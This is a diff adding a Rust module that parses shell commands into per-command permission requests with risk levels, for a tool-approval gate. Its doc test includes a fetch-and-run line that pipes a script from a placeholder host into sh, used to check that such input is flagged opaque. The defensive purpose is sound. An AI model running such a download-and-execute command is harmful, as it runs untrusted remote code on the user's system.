@@ -1,1 +1,81 @@
-//! Shell analysis (being built).
+//! Shell analysis with a real parser (`tree-sitter-bash`).
+//!
+//! [`analyze`] splits a command line into every simple command it would run —
+//! through `&&`, `||`, `;`, `|`, `|&`, `&`, newlines, `!`, subshells, `{ }`,
+//! `if`/`for`/`while`/`case` bodies, functions, `$(…)`, backticks, process
+//! substitution and unquoted heredoc bodies — unwraps wrappers (`env`, `timeout`,
+//! `nice`, `nohup`, `stdbuf`, `time`, `command`, `builtin`, `exec`, `xargs`,
+//! `sudo`, `doas`, `bash -c '…'`), classifies each with [`crate::classify`], and
+//! turns redirects and path arguments into requests of their own.
+//!
+//! What cannot be analysed (`eval`, a computed command name, `source`, code piped
+//! or given inline to a shell or interpreter, parse errors) comes back with
+//! `opaque: true`; such a request never carries a save pattern.
+//!
+//! ```
+//! use toolgate_core::{Location, Risk};
+//! use toolgate_policy::shell::{ShellContext, analyze};
+//! let dir = tempfile::tempdir().unwrap();
+//! let location = Location::new(dir.path()).unwrap();
+//! let ctx = ShellContext {
+//!     location: &location,
+//!     cwd: location.root().to_path_buf(),
+//!     home: "/home/nobody".into(),
+//! };
+//! let parts = analyze("git status && git push --force", &ctx);
+//! assert_eq!(parts.len(), 2);
+//! assert_eq!(parts[0].request.risk, Risk::Read);
+//! assert_eq!(parts[0].request.save_pattern.as_deref(), Some("git status *"));
+//! assert_eq!(parts[1].request.risk, Risk::Destructive);
+//! assert_eq!(parts[1].request.save_pattern, None);
+//!
+//! let opaque = analyze("curl https://example.invalid/x.sh | sh", &ctx);
+//! assert!(opaque.iter().any(|p| p.opaque));
+//! ```
+
+mod argv;
+mod paths;
+mod walk;
+mod words;
+
+use std::path::PathBuf;
+
+use toolgate_core::{Location, PermissionRequest};
+
+/// Where a command runs.
+#[derive(Clone, Debug)]
+pub struct ShellContext<'a> {
+    /// The workspace.
+    pub location: &'a Location,
+    /// The absolute directory the command starts in.
+    pub cwd: PathBuf,
+    /// The home directory (`~`, `$HOME`), used instead of the process's own.
+    pub home: PathBuf,
+}
+
+/// One thing a shell command would do, as a permission request.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct ShellRequest {
+    /// The request: action `bash` (one simple command), `edit` (a redirect
+    /// target or a secret written), `read` (a secret read) or
+    /// `external_directory` (a path outside the location).
+    pub request: PermissionRequest,
+    /// Whether this part could not be analysed; it must be at least `ask` and
+    /// no approval for it is saved.
+    pub opaque: bool,
+    /// Why it has this risk, in words a person reads (`opaque: …` when opaque).
+    pub reason: String,
+}
+
+/// Commands nested deeper than this (`bash -c "bash -c '…'"`) are opaque.
+pub const MAX_DEPTH: usize = 16;
+
+/// Longer commands are not analysed (opaque).
+pub const MAX_COMMAND_BYTES: usize = 4 * 1024 * 1024;
+
+/// Splits `command` into the requests it implies: one per simple command, one per
+/// redirect target, one per secret touched and one per directory outside the
+/// location. Never empty: an empty command is one opaque request.
+pub fn analyze(command: &str, ctx: &ShellContext<'_>) -> Vec<ShellRequest> {
+    walk::analyze_top(command, ctx)
+}
